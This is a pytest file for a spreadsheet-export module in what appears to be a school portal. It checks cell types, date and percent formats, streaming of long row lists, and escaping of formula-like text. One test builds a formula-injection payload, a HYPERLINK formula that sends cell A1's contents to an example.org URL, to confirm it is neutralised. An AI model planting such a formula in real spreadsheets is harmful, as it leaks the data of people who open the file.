"""Spreadsheets as another program reads them: each kind of cell, and nothing that could be taken for a formula."""

from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from lararportal import clock, spreadsheets
from lararportal.spreadsheets import DANGEROUS, harmless

NOW = clock.parse("2027-01-11T08:00")


def naive(text: str) -> datetime:
    """A moment as a spreadsheet knows it."""
    return datetime.fromisoformat(text)


def read_back(*rows, headings=("A", "B")):
    with spreadsheets.written(sheet="Underlag", headings=list(headings), rows=iter(rows), now=NOW) as file:
        return load_workbook(file).active


def test_each_kind_of_cell_is_what_it_was():
    moment = clock.parse("2027-03-28T00:30")
    page = read_back(["Anna", 3], [date(2027, 3, 15), 0.5], [moment, None])
    assert page.title == "Underlag"
    assert [[cell.value for cell in row] for row in page.iter_rows()] == [
        ["A", "B"],
        ["Anna", 3],
        [naive("2027-03-15"), 0.5],
        [naive("2027-03-28T00:30"), None],
    ]
    shown = [page[place].number_format for place in ("B3", "A3", "A4")]
    assert shown == ["0%", "yyyy-mm-dd", "yyyy-mm-dd hh:mm"]


@pytest.mark.parametrize("begin", DANGEROUS)
def test_no_text_is_a_formula(begin):
    text = f'{begin}HYPERLINK("http://example.org/?leak="&A1,"Anna")'
    page = read_back([text, "Anna"], headings=(text, "B"))
    for place in ("A1", "A2"):
        assert page[place].data_type == "s"
        assert page[place].hyperlink is None
        assert page[place].value.startswith("'")


@pytest.mark.parametrize(
    "text", ["Anna", "Vårdcentralen Öbron", "a=b", "1+1", "http://example.org", "0046", "{=1}", "'quoted'"]
)
def test_other_texts_are_as_they_were(text):
    assert harmless(text) == text
    cell = read_back([text, "end"])["A2"]
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


def test_a_long_list_is_written_as_it_comes():
    alive, most = 0, 0

    class Row(list):
        def __init__(self, number: int) -> None:
            nonlocal alive, most
            super().__init__([f"Anna {number}", number])
            alive += 1
            most = max(most, alive)

        def __del__(self) -> None:
            nonlocal alive
            alive -= 1

    page = read_back(*[], headings=("A", "B"))
    assert page.max_row == 1
    with spreadsheets.written(sheet="S", headings=["A", "B"], rows=(Row(n) for n in range(3000)), now=NOW) as file:
        assert load_workbook(file, read_only=True).active.max_row == 3001
    assert most <= 3
